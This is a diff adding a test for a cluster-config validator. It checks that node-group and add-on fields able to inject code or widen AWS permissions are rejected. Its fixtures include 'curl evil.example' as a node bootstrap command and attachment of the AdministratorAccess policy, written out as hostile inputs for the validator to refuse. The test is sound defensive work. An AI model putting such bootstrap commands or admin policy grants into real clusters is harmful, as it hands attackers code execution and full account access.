@@ -82,6 +82,41 @@ describe('a field', () => {
     expect(await problemsOf(lines)).toEqual([expected]);
   });
 
+  const group = (field: string): string => `managedNodeGroups: [{ name: a, ${field} }]`;
+  const addon = (field: string): string => `addons: [{ name: a, ${field} }]`;
+
+  // By each, whoever writes the file would say what code nodes run, or what they and pods may do in AWS.
+  it.each([
+    ['managedNodeGroups[0].ami', group('ami: ami-0123456789abcdef0')],
+    ['managedNodeGroups[0].preBootstrapCommands', group('preBootstrapCommands: [curl evil.example]')],
+    ['managedNodeGroups[0].overrideBootstrapCommand', group('overrideBootstrapCommand: curl evil.example')],
+    ['managedNodeGroups[0].securityGroups', group('securityGroups: { attachIDs: [sg-1] }')],
+    ['managedNodeGroups[0].launchTemplate', group('launchTemplate: { id: lt-1 }')],
+    [
+      'managedNodeGroups[0].iam',
+      group('iam: { attachPolicyARNs: ["arn:aws:iam::aws:policy/AdministratorAccess"] }'),
+    ],
+    [
+      'addons[0].attachPolicyARNs',
+      addon('attachPolicyARNs: ["arn:aws:iam::aws:policy/AdministratorAccess"]'),
+    ],
+    [
+      'addons[0].serviceAccountRoleARN',
+      addon('serviceAccountRoleARN: "arn:aws:iam::111122223333:role/admin"'),
+    ],
+    ['addons[0].podIdentityAssociations', addon('podIdentityAssociations: [{ namespace: a }]')],
+    ['iam.podIdentityAssociations', 'iam: { podIdentityAssociations: [{ namespace: a }] }'],
+    ['iam.serviceAccounts', 'iam: { serviceAccounts: [{ metadata: { name: a } }] }'],
+  ])('by which somebody could do more than make nodes is refused: %s', async (path, lines) => {
+    expect(await problemsOf(lines)).toContainEqual(
+      expect.stringMatching(
+        new RegExp(
+          `^config:3:\\d+ ${path.replaceAll(/[[\].]/g, '\\$&')}: it is not supported\\b.* Leave it out\\.$`,
+        ),
+      ),
+    );
+  });
+
   it.each([
     [
       'managedNodeGroup: []',
